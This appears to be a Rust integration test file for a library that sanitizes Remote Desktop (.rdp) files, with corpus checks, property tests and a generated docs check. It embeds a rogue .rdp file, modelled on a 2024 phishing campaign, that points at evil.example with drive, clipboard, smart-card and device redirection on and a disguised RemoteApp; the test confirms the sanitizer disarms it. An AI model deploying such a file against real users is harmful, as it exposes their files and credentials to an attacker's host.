//! Integration tests of the profiles crate: the shared corpus of real .rdp files, round-trip properties,
//! and snapshots of the sanitizer's reports.

use std::fmt::Write as _;
use std::path::PathBuf;

use proptest::prelude::*;
use rdpl_profiles::convert::{self, ImportError};
use rdpl_profiles::rdp::catalogue::{self, Allowed, Risk, ValueType};
use rdpl_profiles::rdp::render::RdpDocument;
use rdpl_profiles::rdp::sanitize::{Policy, Sanitized, sanitize};
use rdpl_profiles::rdp::{RdpFile, Value};

/// ../shared/rdp-corpus beside the repository. It must exist: a missing corpus fails the test, never skips it.
fn corpus_dir() -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/rdp-corpus");
    assert!(
        dir.is_dir(),
        "the shared .rdp corpus is missing at {}",
        dir.display()
    );
    dir
}

/// What each corpus file must do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// Imports, connecting to this address.
    Imports(&'static str),
    /// Parses, but has no usable `full address`.
    NoAddress,
    /// Has no property line at all.
    NotRdp,
}

const CORPUS: &[(&str, Expect)] = &[
    (
        "FreeRDP__FreeRDP__test1.rdp",
        Expect::Imports("rdgateway-r1.wvd.microsoft.com:3389"),
    ),
    (
        "GGonryun__rdp-warp-portal__test.rdp",
        Expect::Imports("203.0.113.10:33400"),
    ),
    ("Pathduck__settings__Default.rdp", Expect::NoAddress),
    (
        "SergeyPiskunov__TeleDesk__test.rdp",
        Expect::Imports("192.0.2.10:33891"),
    ),
    ("Xonathe__RDP_Control_2__Default.rdp", Expect::NoAddress),
    ("bolkedebruin__rdpgw__default.rdp", Expect::NoAddress),
    ("bolkedebruin__rdpgw__rdp_test_file.rdp", Expect::NoAddress),
    ("dorianj__CoRD__Default.rdp", Expect::NoAddress),
    (
        "dweppeler-msft__AVD__Default.rdp",
        Expect::Imports("10.3.0.4:3389"),
    ),
    (
        "dweppeler-msft__AVD__VM-DC-02-Test.rdp",
        Expect::Imports("51.144.78.25:3389"),
    ),
    ("hjgode__ceTSC__default.rdp", Expect::NoAddress),
    ("jesval__testfiles__test.rdp", Expect::Imports("127.0.0.1:3389")),
    (
        "kihyun1998__test_open_rdp__test.rdp",
        Expect::Imports("test:3389"),
    ),
    ("mocofound__multicloud-pam-hcp-boundary__test.rdp", Expect::NotRdp),
    ("svanharmelen__dotfiles__default.rdp", Expect::NotRdp),
];

/// A stable text form of everything the sanitizer reports, for snapshots.
fn report(file: &RdpFile, s: &Sanitized) -> String {
    let mut out = format!(
        "encoding: {}, line ending: {:?}, lines: {}\n",
        file.encoding, file.line_ending, file.lines
    );
    for d in &s.diagnostics {
        let _ = writeln!(out, "diag {:?} {d}", d.severity);
    }
    for c in &s.changes {
        let _ = writeln!(
            out,
            "{:?}/{:?} line {:?} {} old={:?} new={:?}",
            c.action, c.reason, c.line, c.name, c.old, c.new
        );
    }
    out.push_str("--- clean file ---\n");
    out.push_str(&s.document.to_text().replace("\r\n", "\n"));
    out
}

#[test]
fn every_corpus_file_imports_or_is_rejected_with_the_right_diagnostics() {
    let dir = corpus_dir();
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .expect("list corpus")
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|n| n.ends_with(".rdp"))
        .collect();
    on_disk.sort();
    let mut listed: Vec<String> = CORPUS.iter().map(|(n, _)| (*n).to_owned()).collect();
    listed.sort();
    assert_eq!(on_disk, listed, "every corpus file needs an expectation here");

    for (name, expect) in CORPUS {
        let bytes = std::fs::read(dir.join(name)).expect("read corpus file");
        let file = RdpFile::from_bytes(&bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        let s = sanitize(&file, &Policy::strict());
        insta::assert_snapshot!(format!("corpus__{name}"), report(&file, &s));
        let imported = convert::from_rdp("t".parse().expect("name"), &s);
        match (expect, imported) {
            (Expect::Imports(addr), Ok(i)) => assert_eq!(i.profile.target().to_string(), *addr, "{name}"),
            (Expect::NoAddress, Err(ImportError::NoAddress)) => assert!(!file.entries.is_empty(), "{name}"),
            (Expect::NotRdp, Err(ImportError::NoAddress)) => {
                assert!(file.entries.is_empty(), "{name}: expected no property lines");
                assert!(file.has_errors(), "{name}: expected a diagnostic for every line");
                assert_eq!(
                    file.diagnostics.len(),
                    file.lines,
                    "{name}: one diagnostic per line"
                );
            }
            (e, got) => panic!(
                "{name}: expected {e:?}, got {:?}",
                got.map(|i| i.profile.target())
            ),
        }
        // The rendered clean file reads back without a single diagnostic.
        let again = RdpFile::from_bytes(&s.document.to_bytes()).map(|f| f.diagnostics);
        assert!(
            matches!(again, Ok(ref d) if d.is_empty()) || s.document.is_empty(),
            "{name}: {again:?}"
        );
    }
}

#[test]
fn corpus_secrets_never_reach_reports() {
    let dir = corpus_dir();
    for (name, _) in CORPUS {
        let bytes = std::fs::read(dir.join(name)).expect("read");
        let file = RdpFile::from_bytes(&bytes).expect("decodes");
        let text = report(&file, &sanitize(&file, &Policy::strict()));
        for secret in ["xxxxxxxx", "01000000d08c9ddf", "0200000000000000000000"] {
            assert!(
                !text.to_ascii_lowercase().contains(secret),
                "{name} leaks {secret}"
            );
        }
    }
}

#[test]
fn corpus_specifics() {
    let dir = corpus_dir();
    let load = |n: &str| RdpFile::from_bytes(&std::fs::read(dir.join(n)).expect("read")).expect("decodes");
    // The Windows CE dialect: case-insensitive names still match (UserName, Domain, Disable Themes).
    let ce = load("hjgode__ceTSC__default.rdp");
    assert_eq!(ce.get("username").map(|e| e.name.as_str()), Some("UserName"));
    let s = sanitize(&ce, &Policy::strict());
    assert_eq!(s.document.get("disable themes"), Some(&Value::Int(0)));
    assert!(s.neutralised("password"), "the CE password blob is removed");
    // A duplicate key: the later line wins and the earlier one is reported.
    let dup = load("GGonryun__rdp-warp-portal__test.rdp");
    assert!(
        dup.diagnostics
            .iter()
            .any(|d| d.message.contains("first on line 8"))
    );
    // FreeRDP's AVD file: every redirection is forced off, the RemoteApp alias removed.
    let avd = sanitize(&load("FreeRDP__FreeRDP__test1.rdp"), &Policy::strict());
    for n in [
        "drivestoredirect",
        "camerastoredirect",
        "usbdevicestoredirect",
        "redirectclipboard",
        "audiocapturemode",
    ] {
        assert!(avd.neutralised(n), "{n}");
    }
    assert!(avd.document.get("remoteapplicationprogram").is_none());
}

/// The October 2024 rogue .rdp campaign (Microsoft Threat Intelligence, "Midnight Blizzard conducts large-scale
/// spear-phishing campaign using RDP files", 2024-10-29): every drive, clipboard, printers, COM ports, smart
/// cards, WebAuthn, POS devices, location, audio capture, cameras, devices, a RemoteApp, and a signature.
#[test]
fn the_rogue_campaign_file_is_neutralised() {
    let rogue = "full address:s:evil.example:3389\r\nalternate full address:s:evil.example:3389\r\n\
        drivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectprinters:i:1\r\nredirectcomports:i:1\r\n\
        redirectsmartcards:i:1\r\nredirectwebauthn:i:1\r\nredirectposdevices:i:1\r\nredirectlocation:i:1\r\n\
        audiocapturemode:i:1\r\ncamerastoredirect:s:*\r\ndevicestoredirect:s:*\r\nusbdevicestoredirect:s:*\r\n\
        remoteapplicationmode:i:1\r\nremoteapplicationname:s:AWS Secure Storage Connectivity Check\r\n\
        remoteapplicationprogram:s:||AWS Secure Storage Connectivity Check\r\nremoteapplicationicon:s:C:\\x.ico\r\n\
        signscope:s:Full Address,Alternate Full Address\r\nsignature:s:AQAB\r\n";
    let file = RdpFile::parse_text(rogue, rdpl_profiles::rdp::decode::Encoding::Ascii);
    let s = sanitize(&file, &Policy::strict());
    for e in &file.entries {
        if e.key != "full address" {
            assert!(s.neutralised(&e.key), "{} was not neutralised", e.key);
        }
    }
    for (name, value) in s.document.iter() {
        let spec = catalogue::lookup(name).expect("catalogue");
        assert!(
            !matches!(spec.risk, Risk::High | Risk::Credential | Risk::Signature),
            "{name} survived"
        );
        if spec.risk == Risk::Redirection {
            assert!(
                matches!(value, Value::Int(0)) || value == &Value::Str(String::new()),
                "{name} is on"
            );
        }
    }
}

fn value_for(ty: ValueType, allowed: Allowed) -> BoxedStrategy<Value> {
    match (ty, allowed) {
        (ValueType::Int, Allowed::OneOf(set)) => proptest::sample::select(set.to_vec())
            .prop_map(Value::Int)
            .boxed(),
        (ValueType::Int, Allowed::Range(lo, hi)) => (lo..=hi).prop_map(Value::Int).boxed(),
        (ValueType::Int, Allowed::Any) => (i64::from(i32::MIN)..=i64::from(u32::MAX))
            .prop_map(Value::Int)
            .boxed(),
        // Printable text, including colons, that does not start or end with whitespace.
        (ValueType::Str, _) => "([!-~À-ÿ一-龥][ -~À-ÿ]{0,30}[!-~À-ÿ])?"
            .prop_map(Value::Str)
            .boxed(),
        (ValueType::Bin, _) => proptest::collection::vec(any::<u8>(), 0..16)
            .prop_map(Value::Bin)
            .boxed(),
    }
}

fn document() -> impl Strategy<Value = RdpDocument> {
    let writable: Vec<_> = catalogue::all()
        .iter()
        .filter(|s| !matches!(s.risk, Risk::Credential | Risk::Signature))
        .collect();
    let entries: Vec<_> = writable
        .iter()
        .map(|s| (Just(s.name), value_for(s.ty, s.allowed)))
        .collect();
    (entries, proptest::collection::vec(any::<bool>(), writable.len())).prop_map(|(pairs, keep)| {
        let mut d = RdpDocument::new();
        for ((name, value), k) in pairs.into_iter().zip(keep) {
            if k {
                d.set(name, value).expect("strategy yields valid values");
            }
        }
        d
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// parse(render(x)) == x, through the bytes mstsc would read.
    #[test]
    fn render_then_parse_round_trips(doc in document()) {
        let bytes = doc.to_bytes();
        let file = RdpFile::from_bytes(&bytes).map_err(|e| TestCaseError::fail(e.to_string()));
        match file {
            Ok(file) => {
                prop_assert_eq!(&file.diagnostics, &vec![]);
                let mut back = RdpDocument::new();
                for e in &file.entries {
                    back.set(&e.key, e.value.clone()).map_err(|e| TestCaseError::fail(e.to_string()))?;
                }
                prop_assert_eq!(back, doc);
            }
            // Only an empty document renders to an "empty" file.
            Err(e) => prop_assert!(doc.is_empty(), "{e:?}"),
        }
    }

    /// Sanitizing rdpl's own output under a policy that allows everything it holds changes nothing.
    #[test]
    fn sanitizing_a_clean_document_is_identity(doc in document()) {
        let mut policy = Policy::strict();
        for (name, _) in doc.iter() {
            let _ = policy.allow(name);
        }
        if let Ok(file) = RdpFile::from_bytes(&doc.to_bytes()) {
            let s = sanitize(&file, &policy);
            let mut expected = doc.clone();
            for spec in catalogue::all().iter().filter(|s| s.risk == Risk::Redirection) {
                if expected.get(spec.name).is_none() && !policy.allow.contains(spec.name) {
                    expected.set(spec.name, rdpl_profiles::rdp::sanitize::off_value(spec.ty)).expect("off");
                }
            }
            let changed = s.changes.iter().filter(|c| c.action != rdpl_profiles::rdp::sanitize::Action::Kept).count();
            if doc.iter().all(|(n, v)| !matches!((n, v), ("authentication level", Value::Int(0))
                    | ("negotiate security layer", Value::Int(0))
                    | ("enablecredsspsupport", Value::Int(0)))) {
                prop_assert_eq!(changed, 0, "{:?}", s.changes);
                prop_assert_eq!(s.document, expected);
            }
        }
    }

    /// Arbitrary bytes never panic the decoder, parser, sanitizer or renderer.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        if let Ok(file) = RdpFile::from_bytes(&bytes) {
            let s = sanitize(&file, &Policy::strict());
            let _ = s.document.to_bytes();
        }
    }

    /// Arbitrary line soup built from real property names never panics and every line is accounted for.
    #[test]
    fn every_line_is_an_entry_or_a_diagnostic(lines in proptest::collection::vec(
        ("(full address|username|session bpp|redirectclipboard|x|password 51|/v|)", "[isbqx]?", "[ -~]{0,12}"), 0..20)) {
        let text: String = lines.iter().map(|(n, t, v)| format!("{n}:{t}:{v}\r\n")).collect();
        let file = RdpFile::parse_text(&text, rdpl_profiles::rdp::decode::Encoding::Ascii);
        for line in 1..=file.lines {
            let blank = text.split("\r\n").nth(line - 1).is_none_or(|l| l.trim().is_empty());
            let seen = file.entries.iter().any(|e| e.line == line) || file.diagnostics.iter().any(|d| d.line == line);
            prop_assert!(blank || seen, "line {} of {:?} vanished", line, text);
        }
    }
}

/// docs/rdp-properties.md is generated from the catalogue (one source of truth). This test fails when the file
/// is stale; run it with `RDPL_UPDATE_DOCS=1` to rewrite the file.
#[test]
fn catalogue_doc_is_current() {
    use rdpl_profiles::rdp::catalogue::Source;
    let mut md = String::from(
        "# .rdp properties rdpl knows\n\n\
         Generated from `profiles/src/rdp/properties.rs` by the `catalogue_doc_is_current` test \
         (`RDPL_UPDATE_DOCS=1 cargo test -p rdpl-profiles --test profiles catalogue_doc`). Do not edit by hand.\n\n\
         Risk classes decide what the sanitizer does (see docs/rdp-format.md):\n\n\
         | risk | sanitizer |\n|---|---|\n\
         | low | kept when the value is valid |\n\
         | connection | kept; `full address` and `gatewayhostname` are shown in the report |\n\
         | security | kept; values that weaken the connection are changed and reported |\n\
         | redirection | written explicitly off unless the profile's policy or `--allow NAME` permits it |\n\
         | high | removed unless `--allow NAME` permits it |\n\
         | credential | always removed, can't be allowed |\n\
         | signature | always removed (any edit invalidates a signature) |\n\n\
         Sources: **MS** = Microsoft Learn, \"Supported RDP properties\" \
         (learn.microsoft.com/azure/virtual-desktop/rdp-properties) and \"Supported Remote Desktop RDP file settings\" \
         (learn.microsoft.com/windows-server/remote/remote-desktop-services/clients/rdp-files); otherwise the \
         source is named.\n\n\
         | property | type | allowed | risk | meaning | source |\n|---|---|---|---|---|---|\n",
    );
    for p in catalogue::all() {
        let allowed = match p.allowed {
            Allowed::Any => "any".to_owned(),
            Allowed::Range(lo, hi) => format!("{lo}..={hi}"),
            Allowed::OneOf(set) => set.iter().map(ToString::to_string).collect::<Vec<_>>().join(", "),
        };
        let risk = format!("{:?}", p.risk).to_lowercase();
        let source = match p.source {
            Source::MsLearn => "MS".to_owned(),
            Source::Other(s) => s.to_owned(),
        };
        let _ = writeln!(
            md,
            "| `{}` | {} | {allowed} | {risk} | {} | {source} |",
            p.name,
            p.ty.letter(),
            p.summary.replace('|', "\\|")
        );
    }
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../docs/rdp-properties.md");
    #[allow(
        clippy::disallowed_methods,
        reason = "tests may read the environment (the code under test never does)"
    )]
    let update = std::env::var_os("RDPL_UPDATE_DOCS").is_some();
    if update {
        std::fs::write(&path, &md).expect("write docs");
    }
    let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        on_disk == md,
        "docs/rdp-properties.md is stale: run RDPL_UPDATE_DOCS=1 cargo test -p rdpl-profiles --test profiles catalogue_doc"
    );
}
